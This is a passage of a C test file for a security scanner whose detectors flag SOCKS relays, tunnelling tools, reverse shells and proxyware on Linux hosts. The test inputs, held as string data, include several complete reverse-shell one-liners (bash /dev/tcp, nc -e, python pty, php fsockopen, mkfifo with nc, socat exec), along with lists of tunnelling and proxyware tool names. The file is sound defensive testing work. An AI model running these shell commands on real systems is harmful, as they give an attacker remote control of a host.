/*
 * test_access.c - the access-resale checks:
 *   parsers (collect/access_parse.c): ssh forwarding options, socat
 *   addresses, nc/ncat exec and listen, chisel and ligolo (renamed too),
 *   reverse-shell one-liners, tool/proxyware names, artefact names and
 *   config contents, Docker configs;
 *   the collector (collect/access.c) over a temporary root;
 *   the detectors, facts in, findings out:
 *   RM-RES-001 relay/proxy, RM-RES-002 remote-access tool, RM-RES-003
 *   reverse shell, RM-RES-004 proxyware; with the negatives an admin's
 *   host has (an interactive ssh -D, an sshd session shell, a packaged
 *   nginx in front of an app, the Debian tor).
 */
#include "collect/access_parse.h"
#include "testlib.h"

#define S(x) x, strlen(x)

/* ---- parsers ---------------------------------------------------------------- */

static void
test_ssh(void **st)
{
	struct ssh_fwd f;

	(void)st;
	assert_true(acc_parse_ssh(S("ssh -D 1080 admin@10.0.0.1"), &f));
	assert_true(f.flags & SSHF_DYNAMIC);
	assert_false(f.flags & SSHF_PUBLIC);
	assert_string_equal(f.dest, "admin@10.0.0.1");
	assert_string_equal(f.spec, "-D 1080");

	assert_true(acc_parse_ssh(S("ssh -NfR 2222:localhost:22 u@h"), &f));
	assert_true(f.flags & SSHF_REMOTE);
	assert_true(f.flags & SSHF_NO_CMD);
	assert_true(f.flags & SSHF_BACKGROUND);
	assert_string_equal(f.spec, "-R 2222:localhost:22");
	assert_string_equal(f.dest, "u@h");

	assert_true(acc_parse_ssh(S("ssh -D0.0.0.0:1080 h"), &f));
	assert_true(f.flags & SSHF_PUBLIC);
	assert_true(acc_parse_ssh(S("ssh -g -D 1080 h"), &f));
	assert_true(f.flags & SSHF_PUBLIC);
	assert_true(acc_parse_ssh(S("ssh -o GatewayPorts=yes -L 80:x:80 h"),
	    &f));
	assert_true(f.flags & SSHF_PUBLIC);

	assert_true(acc_parse_ssh(S("ssh -L 0.0.0.0:8080:10.1.1.1:80 h"), &f));
	assert_true(f.flags & SSHF_PUBLIC);
	assert_true(acc_parse_ssh(S("ssh -L 8080:10.1.1.1:80 h"), &f));
	assert_false(f.flags & SSHF_PUBLIC);
	assert_true(f.flags & SSHF_LOCAL);
	assert_true(acc_parse_ssh(S("ssh -L 127.0.0.1:8080:10.1.1.1:80 h"),
	    &f));
	assert_false(f.flags & SSHF_PUBLIC);
	assert_true(acc_parse_ssh(S("ssh -L [::]:8080:x:80 h"), &f));
	assert_true(f.flags & SSHF_PUBLIC);

	assert_true(acc_parse_ssh(S("ssh -w 0:0 root@h"), &f));
	assert_true(f.flags & SSHF_TUN);
	/* options after the destination count; the command does not */
	assert_true(acc_parse_ssh(S("ssh h -D 1080"), &f));
	assert_false(acc_parse_ssh(S("ssh h ls -D 1080"), &f));
	/* -p takes an argument: "-D" after it is not a port spec */
	assert_false(acc_parse_ssh(S("ssh -p 22 -i key h"), &f));
	assert_false(acc_parse_ssh(S("ssh -p"), &f));
	assert_false(acc_parse_ssh(S("ssh"), &f));
	assert_false(acc_parse_ssh(S(""), &f));
	/* -D with nothing after it: still dynamic, no crash */
	assert_true(acc_parse_ssh(S("ssh -D"), &f));
	/* -E takes an argument (a log file) that looks like -R */
	assert_false(acc_parse_ssh(S("ssh -E -R h"), &f));
}

static void
test_socat(void **st)
{
	struct socat_cmd c;

	(void)st;
	assert_true(acc_parse_socat(S("socat TCP-LISTEN:1080,fork,reuseaddr "
	    "TCP:10.0.0.2:1080"), &c));
	assert_int_equal(c.a1, ADDR_LISTEN);
	assert_int_equal(c.a2, ADDR_CONNECT);
	assert_true(acc_parse_socat(S("socat -d -d tcp4-l:80 socks4:1.2.3.4:x:80,"
	    "socksport=9050"), &c));
	assert_int_equal(c.a1, ADDR_LISTEN);
	assert_int_equal(c.a2, ADDR_CONNECT);
	assert_true(acc_parse_socat(S("socat exec:'bash -li',pty,stderr,"
	    "setsid,sigint,sane tcp:10.0.0.1:4444"), &c));
	assert_int_equal(c.a1, ADDR_EXEC);
	assert_int_equal(c.a2, ADDR_CONNECT);
	assert_string_equal(c.exec, "'bash -li',pty,stderr,setsid,sigint,sane");
	assert_true(c.exec_shell);
	assert_true(acc_parse_socat(S("socat - TCP:h:1"), &c));
	assert_int_equal(c.a1, ADDR_STDIO);
	assert_true(acc_parse_socat(S("socat -b 8192 UNIX-LISTEN:/x "
	    "SYSTEM:id"), &c));
	assert_int_equal(c.a1, ADDR_OTHER);
	assert_int_equal(c.a2, ADDR_EXEC);
	assert_false(acc_parse_socat(S("socat -V"), &c));
	assert_false(acc_parse_socat(S("socat TCP:h:1"), &c));
	assert_int_equal(acc_socat_addr_kind(S("OPENSSL-LISTEN:443")),
	    ADDR_LISTEN);
	assert_int_equal(acc_socat_addr_kind(S("x")), ADDR_NONE);
	assert_int_equal(acc_socat_addr_kind(S(":")), ADDR_OTHER);
}

static void
test_nc(void **st)
{
	struct nc_cmd n;

	(void)st;
	assert_true(acc_parse_nc(S("nc -e /bin/sh 10.0.0.1 4444"), &n));
	assert_true(n.flags & NC_EXEC_SHELL);
	assert_false(n.flags & NC_LISTEN);
	assert_string_equal(n.exec, "/bin/sh");
	assert_string_equal(n.peer, "10.0.0.1 4444");
	assert_true(acc_parse_nc(S("nc -lvnp 4444 -e /bin/bash"), &n));
	assert_true(n.flags & NC_LISTEN);
	assert_true(n.flags & NC_EXEC_SHELL);
	assert_true(acc_parse_nc(S("ncat --sh-exec \"ncat 10.0.0.9 80\" -l "
	    "8080 --keep-open"), &n));
	assert_true(n.flags & NC_EXEC_RELAY);
	assert_false(n.flags & NC_EXEC_SHELL);
	assert_true(acc_parse_nc(S("ncat 10.0.0.1 443 --ssl -e/bin/bash"), &n));
	assert_true(n.flags & NC_EXEC_SHELL);
	assert_true(acc_parse_nc(S("busybox nc 1.2.3.4 53 -e sh"), &n));
	assert_true(n.flags & NC_EXEC_SHELL);
	assert_true(acc_parse_nc(S("ncat --exec=/usr/bin/python3 h 1"), &n));
	assert_true(n.flags & NC_EXEC_SHELL);
	/* plain client, plain listener: no exec */
	assert_true(acc_parse_nc(S("nc -zv 10.0.0.1 22"), &n));
	assert_false(n.flags & NC_EXEC);
	assert_true(acc_parse_nc(S("nc -l 4444"), &n));
	assert_false(n.flags & NC_EXEC);
	assert_false(acc_parse_nc(S("nc"), &n));
	assert_false(acc_parse_nc(S("nc -e"), &n) && (n.flags & NC_EXEC));
}

static void
test_tunnel(void **st)
{
	struct tunnel_cmd t;

	(void)st;
	assert_true(acc_parse_tunnel(S("./chisel client --fingerprint abc "
	    "10.0.0.1:8000 R:socks"), &t));
	assert_int_equal(t.kind, TUN_CHISEL_CLIENT);
	assert_string_equal(t.server, "10.0.0.1:8000");
	assert_string_equal(t.detail, "R:socks");
	assert_true(t.by_name);
	/* renamed: the remote gives it away */
	assert_true(acc_parse_tunnel(S("/tmp/.x/kworker client h:443 "
	    "R:1080:socks"), &t));
	assert_int_equal(t.kind, TUN_CHISEL_CLIENT);
	assert_false(t.by_name);
	assert_true(acc_parse_tunnel(S("chisel server -p 8000 --reverse"), &t));
	assert_int_equal(t.kind, TUN_CHISEL_SERVER);
	/* a program called "server": not chisel without chisel options */
	assert_false(acc_parse_tunnel(S("/opt/app/bin server -p 8000"), &t));
	assert_false(acc_parse_tunnel(S("git client x"), &t));

	assert_true(acc_parse_tunnel(S("/dev/shm/dbus -connect 10.0.0.1:11601 "
	    "-ignore-cert"), &t));
	assert_int_equal(t.kind, TUN_LIGOLO_AGENT);
	assert_string_equal(t.server, "10.0.0.1:11601");
	assert_false(t.by_name);
	assert_true(acc_parse_tunnel(S("agent -connect h:1 -retry"), &t));
	assert_int_equal(t.kind, TUN_LIGOLO_AGENT);
	assert_true(acc_parse_tunnel(S("./ligolo-ng -connect h:1"), &t));
	assert_true(acc_parse_tunnel(S("./proxy -selfcert -laddr 0.0.0.0:11601"),
	    &t));
	assert_int_equal(t.kind, TUN_LIGOLO_PROXY);
	/* -connect alone in some other program */
	assert_false(acc_parse_tunnel(S("/usr/bin/app -connect db:5432"), &t));
	assert_false(acc_parse_tunnel(S(""), &t));
}

static void
test_names(void **st)
{
	(void)st;
	assert_true(acc_is_shell(S("/bin/bash")));
	assert_true(acc_is_shell(S("'bash")));
	assert_true(acc_is_shell(S("sh")));
	assert_false(acc_is_shell(S("bashful")));
	assert_false(acc_is_shell(S("")));
	assert_true(acc_is_interpreter(S("/usr/bin/python3.11")));
	assert_true(acc_is_netcat(S("/usr/bin/ncat")));
	assert_true(acc_is_netcat(S("nc.traditional")));
	assert_false(acc_is_netcat(S("ncal")));

	assert_int_equal(acc_tool_by_name(S("/usr/local/bin/ngrok")),
	    TOOL_NGROK);
	assert_int_equal(acc_tool_by_name(S("gs-netcat")), TOOL_GSOCKET);
	assert_int_equal(acc_tool_by_name(S("chisel_1.9.1_linux_amd64")),
	    TOOL_CHISEL);
	assert_int_equal(acc_tool_by_name(S("frpc")), TOOL_FRP);
	assert_int_equal(acc_tool_by_name(S("torsocks")), TOOL_NONE);
	assert_int_equal(acc_tool_by_name(S("tmux")), TOOL_NONE);

	assert_non_null(acc_proxy_name(S("/tmp/.x/microsocks")));
	assert_non_null(acc_proxy_name(S("3proxy")));
	assert_null(acc_proxy_name(S("nginx")));
	assert_true(acc_reverse_proxy_name(S("/usr/sbin/nginx")));
	assert_true(acc_reverse_proxy_name(S("haproxy")));

	assert_string_equal(acc_proxyware(S("honeygain/honeygain:latest")),
	    "honeygain");
	assert_string_equal(acc_proxyware(S("/app/PawnsApp")), "pawnsapp");
	assert_string_equal(acc_proxyware(S("/usr/bin/psclient")), "psclient");
	assert_string_equal(acc_proxyware(S("myst")), "myst");
	assert_null(acc_proxyware(S("mystery")));
	assert_null(acc_proxyware(S("nginx")));
}

static void
test_revshell_cmd(void **st)
{
	(void)st;
	assert_non_null(acc_revshell_cmd(S("bash -c bash -i >& "
	    "/dev/tcp/10.0.0.1/4444 0>&1")));
	assert_non_null(acc_revshell_cmd(S("sh -i 5<> /dev/tcp/h/53")));
	assert_non_null(acc_revshell_cmd(S("nc -e /bin/sh 10.0.0.1 4444")));
	assert_non_null(acc_revshell_cmd(S("socat exec:'bash -li',pty "
	    "tcp:10.0.0.1:4444")));
	assert_non_null(acc_revshell_cmd(S("python3 -c import socket,"
	    "subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",1));"
	    "os.dup2(s.fileno(),0);import pty;pty.spawn(\"sh\")")));
	assert_non_null(acc_revshell_cmd(S("php -r $sock=fsockopen(\"h\",1);"
	    "exec(\"/bin/sh -i <&3 >&3 2>&3\");")));
	assert_non_null(acc_revshell_cmd(S("sh -c rm /tmp/f;mkfifo /tmp/f;cat "
	    "/tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f")));
	/* negatives: reading about it, a plain nc, a python script */
	assert_null(acc_revshell_cmd(S("grep -r /dev/tcp /etc")));
	assert_null(acc_revshell_cmd(S("grep /dev/tcp/x/1 notes")));
	assert_null(acc_revshell_cmd(S("nc -zv 10.0.0.1 22")));
	assert_null(acc_revshell_cmd(S("python3 /usr/bin/unattended-upgrade")));
	assert_null(acc_revshell_cmd(S("socat TCP-LISTEN:1 TCP:h:2")));
	/* acme.sh's standalone mode answers the challenge with SYSTEM: */
	assert_null(acc_revshell_cmd(S("socat -4 TCP-LISTEN:80,crlf,reuseaddr,"
	    "fork SYSTEM:sleep 1; echo 'HTTP/1.0 200 OK'; echo "
	    "'Content-Length\\: 87'; echo ''; printf '%s' 'tok.en';")));
	assert_non_null(acc_revshell_cmd(S("socat TCP-LISTEN:4444,fork "
	    "EXEC:/bin/bash,pty,stderr")));
	assert_non_null(acc_revshell_cmd(S("socat tcp:10.0.0.1:1 "
	    "system:'python3 -c import pty;pty.spawn(\"sh\")'")));
	assert_null(acc_revshell_cmd(S("")));
}

static void
test_artefact_names(void **st)
{
	char d[ACC_STR_MAX];

	(void)st;
	assert_int_equal(acc_art_by_name(S("tmate-1000"), true, false),
	    ART_TMATE_SOCKET);
	assert_int_equal(acc_art_by_name(S(".gs-1000"), true, true), ART_GS_SHM);
	assert_int_equal(acc_art_by_name(S(".gs-1000"), true, false), ART_NONE);
	assert_int_equal(acc_art_by_name(S("frpc.toml"), false, false),
	    ART_FRP_CONF);
	assert_int_equal(acc_art_by_name(S("ngrok.yml"), false, false),
	    ART_NGROK_CONF);
	assert_int_equal(acc_art_by_name(S("torrc"), false, false),
	    ART_TOR_CONF);
	assert_int_equal(acc_art_by_name(S("chisel"), false, false),
	    ART_TOOL_BINARY);
	assert_int_equal(acc_art_by_name(S("tor"), false, false), ART_NONE);
	assert_int_equal(acc_art_by_name(S("honeygain"), false, false),
	    ART_PROXYWARE_FILE);
	assert_int_equal(acc_art_by_name(S("notes.txt"), false, false),
	    ART_NONE);
	assert_true(acc_tor_data_member(S("cached-microdesc-consensus")));
	assert_false(acc_tor_data_member(S("state")));

	assert_true(acc_conf_scan(ART_NGROK_CONF, S("version: \"2\"\n"
	    "authtoken: 2abcSECRETTOKEN_xyz\n"), d));
	assert_string_equal(d, "authtoken");
	assert_null(strstr(d, "SECRET"));
	assert_true(acc_conf_scan(ART_FRP_CONF, S("[common]\nserver_addr = "
	    "203.0.113.7\nserver_port = 7000\n"), d));
	assert_string_equal(d, "server_addr=203.0.113.7");
	assert_true(acc_conf_scan(ART_FRP_CONF, S("serverAddr = \"x.example\"\n"),
	    d));
	assert_string_equal(d, "server_addr=x.example");
	assert_false(acc_conf_scan(ART_FRP_CONF, S("hello\n"), d));
	assert_true(acc_conf_scan(ART_TOR_CONF, S("# c\nSocksPort 9050\n"
	    "DataDirectory /tmp/.xdiag/tordata\n"), d));
	assert_false(acc_conf_scan(ART_TOR_CONF, S("nothing"), d));
	assert_false(acc_conf_scan(ART_NGROK_CONF, S("authtoken"), d));
	assert_false(acc_conf_scan(ART_NONE, S("x"), d));

	assert_true(acc_docker_proxyware(S("{\"Image\":\"sha256:abc\",\"Config\""
	    ":{\"Image\":\"traffmonetizer/cli_v2:latest\"}}"), d));
	assert_string_equal(d, "traffmonetizer/cli_v2:latest");
	assert_false(acc_docker_proxyware(S("{\"Config\":{\"Image\":"
	    "\"nginx:1\"}}"), d));
	assert_false(acc_docker_proxyware(S("{\"Image\":\"honeyg"), d));
}

/* ---- collector ---------------------------------------------------------------- */

static const struct artefact *
art_at(const struct snapshot *s, const char *path)
{
	for (size_t i = 0; i < s->nartefacts; i++)
		if (strcmp(s->artefacts[i].path, path) == 0)
			return &s->artefacts[i];
	return NULL;
}

static void
test_collect(void **st)
{
	char *dir = tl_tmpdir();
	struct snapshot *s = tl_snap_new();
	struct account *a;
	const struct artefact *t;

	(void)st;
	tl_writes(dir, "dev/shm/.gs-1000/x", "");
	tl_writes(dir, "tmp/tmate-1000/sock", "");
	tl_writes(dir, "tmp/.xdiag/tordata/cached-certs", "x");
	tl_writes(dir, "tmp/.xdiag/torrc", "SocksPort 9050\n"
	    "DataDirectory /tmp/.xdiag/tordata\n");
	tl_writes(dir, "var/tmp/.f/frpc.ini", "[common]\nserver_addr = "
	    "198.51.100.4\n");
	tl_writes(dir, "root/.config/ngrok/ngrok.yml", "authtoken: SECRET1\n");
	tl_writes(dir, "home/u/.config/htop/defunct", "\x7f" "ELF");
	tl_writes(dir, "home/u/.tmate.conf", "set -g tmate-server-host x\n");
	tl_writes(dir, "tmp/deep/a/b/frpc.ini", "server_addr = 1.1.1.1\n");
	tl_writes(dir, "var/lib/docker/containers/abc/config.v2.json",
	    "{\"Config\":{\"Image\":\"honeygain/honeygain\"}}");
	tl_writes(dir, "var/lib/docker/containers/def/config.v2.json",
	    "{\"Config\":{\"Image\":\"nginx\"}}");
	tl_writes(dir, "etc/tor/torrc", "SocksPort 9050\n");
	s->rootfd = tl_opendir(dir);
	s->live = false;
	a = tl_accounts(s, 2);
	tl_account_set(s, &a[0], "root", 0, 1);
	tl_account_set(s, &a[1], "u", 1000, 2);
	a[1].home = "/home/u";

	access_collect(s);
	assert_non_null(t = art_at(s, "/dev/shm/.gs-1000"));
	assert_int_equal(t->kind, ART_GS_SHM);
	assert_true(t->dir);
	assert_non_null(t = art_at(s, "/tmp/tmate-1000"));
	assert_int_equal(t->kind, ART_TMATE_SOCKET);
	assert_non_null(t = art_at(s, "/tmp/.xdiag/tordata"));
	assert_int_equal(t->kind, ART_TOR_DATA);
	assert_non_null(t = art_at(s, "/tmp/.xdiag/torrc"));
	assert_int_equal(t->kind, ART_TOR_CONF);
	assert_non_null(t = art_at(s, "/var/tmp/.f/frpc.ini"));
	assert_string_equal(t->detail, "server_addr=198.51.100.4");
	assert_non_null(t = art_at(s, "/root/.config/ngrok/ngrok.yml"));
	assert_string_equal(t->detail, "authtoken");
	assert_string_equal(t->user, "root");
	assert_non_null(t = art_at(s, "/home/u/.config/htop/defunct"));
	assert_int_equal(t->kind, ART_GS_DEFUNCT);
	assert_string_equal(t->user, "u");
	assert_non_null(art_at(s, "/home/u/.tmate.conf"));
	assert_non_null(t = art_at(s,
	    "/var/lib/docker/containers/abc/config.v2.json"));
	assert_string_equal(t->detail, "honeygain/honeygain");
	assert_null(art_at(s, "/var/lib/docker/containers/def/config.v2.json"));
	/* bounded: too deep and not hidden; /etc/tor is the package's */
	assert_null(art_at(s, "/tmp/deep/a/b/frpc.ini"));
	assert_null(art_at(s, "/etc/tor/torrc"));
	for (size_t i = 0; i < s->nartefacts; i++)
		assert_null(s->artefacts[i].detail ?
		    strstr(s->artefacts[i].detail, "SECRET") : NULL);

	/* the detectors on these facts */
	{
		struct findings fs;

		tl_run_one(s, "RM-RES-002", &fs);
		assert_true(tl_count(&fs, "RM-RES-002", 0) >= 7);
		for (size_t i = 0; i < fs.n; i++) {
			const struct finding *f = fs.v[i];

			if (strcmp(f->file_path, "/dev/shm/.gs-1000") == 0 ||
			    strcmp(f->file_path, "/var/tmp/.f/frpc.ini") == 0 ||
			    strcmp(f->file_path, "/tmp/.xdiag/tordata") == 0)
				assert_int_equal(f->severity, SEV_HIGH);
			if (strcmp(f->file_path, "/home/u/.tmate.conf") == 0)
				assert_int_equal(f->severity, SEV_LOW);
			assert_null(strstr(f->message, "SECRET"));
		}
		findings_free(&fs);
		tl_run_one(s, "RM-RES-004", &fs);
		assert_int_equal(tl_count(&fs, "RM-RES-004", 0), 1);
		assert_int_equal(fs.v[0]->severity, SEV_HIGH);
		assert_string_equal(tl_ev_str(fs.v[0], "image"),
		    "honeygain/honeygain");
		findings_free(&fs);
	}
	close(s->rootfd);
	s->rootfd = -1;
	tl_snap_free(s);
	tl_rmrf(dir);
	free(dir);
}

/* ---- detectors ------------------------------------------------------------- */

static void
sock_listen(struct sock *k, pid_t pid, const char *ip, uint16_t port,
	    uint64_t ino)
{
	memset(k, 0, sizeof(*k));
	k->family = AF_INET;
	k->proto = IPPROTO_TCP;
	k->state = 10;  /* TCP_LISTEN */
	inet_pton(AF_INET, ip, k->laddr);
	k->lport = port;
	k->inode = ino;
	k->netns = 4026531840u;
	k->owners[0] = pid;
	k->nowners = 1;
}

static void
set_cmd(struct snapshot *s, struct proc *p, const char *cmd)
{
	const char *sp;

	p->cmdline = tl_sdup(s, cmd);
	sp = strchr(cmd, ' ');
	p->argv0 = sp ? arena_strndup(&s->arena, cmd, (size_t)(sp - cmd)) :
	    p->cmdline;
}

static void
test_relay(void **st)
{
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 6);
	struct sock *k = tl_socks(s, 8);
	uint64_t ino[] = { 1, 2 };
	struct findings fs;
	const struct finding *f;

	(void)st;
	/* 1000: a SOCKS proxy from /tmp, listening and connected out */
	tl_proc_set(s, &p[0], 1000, 1, "microsocks", "/tmp/.s/microsocks",
	    EXE_FILE);
	set_cmd(s, &p[0], "/tmp/.s/microsocks -i 10.77.0.1 -p 1080");
	p[0].sock_inodes = ino;
	p[0].nsock_inodes = 2;
	sock_listen(&k[0], 1000, "10.77.0.1", 1080, 1);
	tl_sock_tcp(&k[1], 1000, "10.77.0.2", 9000);
	k[1].inode = 2;
	/* 1001: an sshd (parent of 1002) */
	tl_proc_set(s, &p[1], 1001, 1, "sshd", "/usr/sbin/sshd", EXE_FILE);
	/* 1002: the admin's ssh -D on a terminal under sshd */
	tl_proc_set(s, &p[2], 1002, 1001, "ssh", "/usr/bin/ssh", EXE_FILE);
	set_cmd(s, &p[2], "ssh -D 1080 admin@10.77.0.2");
	p[2].stdio_kind[0] = FDK_TTY;
	p[2].stdio_kind[1] = FDK_TTY;
	/* 1003: the same from cron, no terminal */
	tl_proc_set(s, &p[3], 1003, 1004, "ssh", "/usr/bin/ssh", EXE_FILE);
	set_cmd(s, &p[3], "ssh -NR 2222:localhost:22 x@10.77.0.2");
	p[3].stdio_kind[0] = FDK_NULL;
	/* 1004: cron itself */
	tl_proc_set(s, &p[4], 1004, 1, "cron", "/usr/sbin/cron", EXE_FILE);
	/* 1005: a packaged nginx in front of an app: listens on 0.0.0.0:80
	 * and talks to a backend */
	tl_proc_set(s, &p[5], 1005, 1, "nginx", "/usr/sbin/nginx", EXE_FILE);
	set_cmd(s, &p[5], "nginx: worker process");
	p[5].argv0 = "nginx:";
	p[5].sock_inodes = ino;
	p[5].nsock_inodes = 2;
	sock_listen(&k[2], 1005, "0.0.0.0", 80, 3);
	tl_sock_tcp(&k[3], 1005, "10.77.0.9", 8080);
	k[3].inode = 4;
	s->nsocks = 4;

	tl_run_one(s, "RM-RES-001", &fs);
	f = tl_get(&fs, "RM-RES-001", 1000);
	assert_int_equal(f->severity, SEV_HIGH);
	assert_true(tl_ev_has(f, "listen", "10.77.0.1:1080"));
	assert_true(tl_ev_has(f, "peers", "10.77.0.2:9000"));
	assert_string_equal(f->dest_ip, "10.77.0.2");
	assert_int_equal(f->dest_port, 9000);
	f = tl_get(&fs, "RM-RES-001", 1002);
	assert_true(f->severity <= SEV_LOW);
	f = tl_get(&fs, "RM-RES-001", 1003);
	assert_int_equal(f->severity, SEV_HIGH);
	assert_string_equal(tl_ev_str(f, "started_by"), "cron");
	assert_int_equal(tl_count(&fs, "RM-RES-001", 1005), 0);
	assert_int_equal(tl_count(&fs, "RM-RES-001", 1001), 0);
	findings_free(&fs);

	/* the same ssh -D on a terminal, started by a program in /tmp */
	p[1].exe = "/tmp/.x/updater";
	p[1].comm = "updater";
	tl_run_one(s, "RM-RES-001", &fs);
	assert_int_equal(tl_get(&fs, "RM-RES-001", 1002)->severity, SEV_HIGH);
	findings_free(&fs);
	p[1].exe = "/usr/sbin/sshd";
	p[1].comm = "sshd";

	/* acme.sh's standalone mode: socat listening on :80 and answering
	 * with SYSTEM: "sleep 1; echo ..." is neither a relay nor a shell */
	tl_proc_set(s, &p[4], 1004, 1, "socat", "/usr/bin/socat", EXE_FILE);
	set_cmd(s, &p[4], "socat -4 TCP-LISTEN:80,crlf,reuseaddr,fork "
	    "SYSTEM:sleep 1; echo 'HTTP/1.0 200 OK'; echo ''; printf '%s' "
	    "'x';");
	p[4].sock_inodes = ino;
	p[4].nsock_inodes = 1;
	sock_listen(&k[4], 1004, "0.0.0.0", 80, 5);
	s->nsocks = 5;
	tl_run_one(s, "RM-RES-001", &fs);
	assert_int_equal(tl_count(&fs, "RM-RES-001", 1004), 0);
	findings_free(&fs);
	tl_run_one(s, "RM-RES-003", &fs);
	assert_int_equal(tl_count(&fs, "RM-RES-003", 1004), 0);
	findings_free(&fs);
	/* the same socat relaying to a peer is one */
	set_cmd(s, &p[4], "socat TCP-LISTEN:80,fork TCP:10.77.0.2:80");
	tl_run_one(s, "RM-RES-001", &fs);
	assert_int_equal(tl_get(&fs, "RM-RES-001", 1004)->severity, SEV_MEDIUM);
	assert_string_equal(tl_ev_str(tl_get(&fs, "RM-RES-001", 1004),
	    "relay_kind"), "socat relay");
	findings_free(&fs);
	tl_proc_set(s, &p[4], 1004, 1, "cron", "/usr/sbin/cron", EXE_FILE);
	s->nsocks = 4;

	/* the same nginx from /tmp is a relay */
	p[5].exe = "/tmp/nginx";
	tl_run_one(s, "RM-RES-001", &fs);
	assert_int_equal(tl_get(&fs, "RM-RES-001", 1005)->severity, SEV_HIGH);
	findings_free(&fs);
	/* a system binary that listens and connects out: low */
	p[5].exe = "/usr/sbin/mysqld";
	p[5].comm = "mysqld";
	p[5].argv0 = "/usr/sbin/mysqld";
	tl_run_one(s, "RM-RES-001", &fs);
	assert_int_equal(tl_get(&fs, "RM-RES-001", 1005)->severity, SEV_LOW);
	findings_free(&fs);
	tl_snap_free(s);
}

static void
test_revshell(void **st)
{
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 6);
	struct sock *k = tl_socks(s, 2);
	uint64_t ncino[] = { 9 };
	struct findings fs;
	const struct finding *f;

	(void)st;
	/* 1000: sh with stdin/stdout a TCP socket */
	tl_proc_set(s, &p[0], 1000, 1, "sh", "/usr/bin/dash", EXE_FILE);
	set_cmd(s, &p[0], "/bin/sh -c sleep 30");
	p[0].stdio_kind[0] = p[0].stdio_kind[1] = FDK_SOCKET;
	p[0].stdio_ino[0] = p[0].stdio_ino[1] = 7000 + 1000;
	tl_sock_tcp(&k[0], 1000, "10.77.0.2", 4444);
	/* 1001: sshd; 1002: its session shell on a pty */
	tl_proc_set(s, &p[1], 1001, 1, "sshd", "/usr/sbin/sshd", EXE_FILE);
	tl_proc_set(s, &p[2], 1002, 1001, "bash", "/usr/bin/bash", EXE_FILE);
	set_cmd(s, &p[2], "-bash");
	p[2].stdio_kind[0] = p[2].stdio_kind[1] = FDK_TTY;
	/* 1003: sh -i piped to 1004 nc holding a connection (mkfifo) */
	tl_proc_set(s, &p[3], 1003, 1, "sh", "/usr/bin/dash", EXE_FILE);
	set_cmd(s, &p[3], "/bin/sh -i");
	p[3].stdio_kind[0] = FDK_PIPE;
	p[3].stdio_ino[0] = 555;
	p[3].stdio_kind[1] = FDK_PIPE;
	p[3].stdio_ino[1] = 556;
	tl_proc_set(s, &p[4], 1004, 1, "nc", "/usr/bin/nc.openbsd", EXE_FILE);
	set_cmd(s, &p[4], "nc 10.77.0.3 5555");
	p[4].stdio_kind[0] = FDK_PIPE;
	p[4].stdio_ino[0] = 556;
	p[4].sock_inodes = ncino;
	p[4].nsock_inodes = 1;
	tl_sock_tcp(&k[1], 1004, "10.77.0.3", 5555);
	/* 1005: a shell whose stdio is an AF_UNIX socket (not in the table) */
	tl_proc_set(s, &p[5], 1005, 1, "bash", "/usr/bin/bash", EXE_FILE);
	set_cmd(s, &p[5], "bash");
	p[5].stdio_kind[0] = FDK_SOCKET;
	p[5].stdio_ino[0] = 123456;

	tl_run_one(s, "RM-RES-003", &fs);
	f = tl_get(&fs, "RM-RES-003", 1000);
	assert_int_equal(f->severity, SEV_CRITICAL);
	assert_string_equal(tl_ev_str(f, "peer"), "10.77.0.2:4444");
	assert_string_equal(f->dest_ip, "10.77.0.2");
	f = tl_get(&fs, "RM-RES-003", 1003);
	assert_int_equal(f->severity, SEV_CRITICAL);
	assert_string_equal(tl_ev_str(f, "peer"), "10.77.0.3:5555");
	assert_int_equal(tl_count(&fs, "RM-RES-003", 1002), 0);
	assert_int_equal(tl_count(&fs, "RM-RES-003", 1004), 0);
	assert_int_equal(tl_count(&fs, "RM-RES-003", 1005), 0);
	findings_free(&fs);

	/* loopback peer: high; a one-liner without a socket: high */
	inet_pton(AF_INET, "127.0.0.1", k[0].raddr);
	set_cmd(s, &p[4], "nc -e /bin/sh 10.77.0.3 5555");
	tl_run_one(s, "RM-RES-003", &fs);
	assert_int_equal(tl_get(&fs, "RM-RES-003", 1000)->severity, SEV_HIGH);
	f = tl_get(&fs, "RM-RES-003", 1004);
	assert_int_equal(f->severity, SEV_HIGH);
	assert_string_equal(tl_ev_str(f, "command_form"),
	    "nc reverse shell (-e)");
	findings_free(&fs);
	tl_snap_free(s);
}

static void
test_tool_proc(void **st)
{
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 6);
	struct findings fs;

	(void)st;
	tl_proc_set(s, &p[0], 1000, 1, "defunct", "/home/u/.config/htop/defunct",
	    EXE_FILE);
	tl_proc_env(s, &p[0], "GS_ARGS", "-k /home/u/.config/htop/defunct.dat "
	    "-liqD");
	tl_proc_set(s, &p[1], 1001, 1, "tor", "/usr/bin/tor", EXE_FILE);
	set_cmd(s, &p[1], "/usr/bin/tor --defaults-torrc "
	    "/usr/share/tor/tor-service-defaults-torrc -f /etc/tor/torrc "
	    "--RunAsDaemon 0");
	tl_proc_set(s, &p[2], 1002, 1, "tor", "/tmp/.xdiag/tor", EXE_FILE);
	set_cmd(s, &p[2], "/tmp/.xdiag/tor -f /tmp/.xdiag/torrc");
	tl_proc_set(s, &p[3], 1003, 1, "dbus", "/dev/shm/dbus", EXE_FILE);
	set_cmd(s, &p[3], "/dev/shm/dbus -connect 10.0.0.1:11601 -ignore-cert");
	tl_proc_set(s, &p[4], 1004, 1, "ngrok", "/usr/local/bin/ngrok",
	    EXE_FILE);
	set_cmd(s, &p[4], "ngrok tcp 22");
	tl_proc_set(s, &p[5], 1005, 1, "tmux", "/usr/bin/tmux", EXE_FILE);
	/* 1005 is tmux; as "[raid5wq]" with a connection out it is a
	 * disguised tunnel, and without one it is not ours to say */
	tl_run_one(s, "RM-RES-002", &fs);
	assert_int_equal(tl_count(&fs, "RM-RES-002", 1005), 0);
	findings_free(&fs);
	p[5].argv0 = "[raid5wq]";
	p[5].cmdline = "[raid5wq]";
	tl_run_one(s, "RM-RES-002", &fs);
	assert_int_equal(tl_count(&fs, "RM-RES-002", 1005), 0);
	findings_free(&fs);
	{
		struct sock *k = tl_socks(s, 1);
		static uint64_t ino[] = { 8005 };

		tl_sock_tcp(k, 1005, "198.51.100.9", 443);
		p[5].sock_inodes = ino;
		p[5].nsock_inodes = 1;
	}
	tl_run_one(s, "RM-RES-002", &fs);
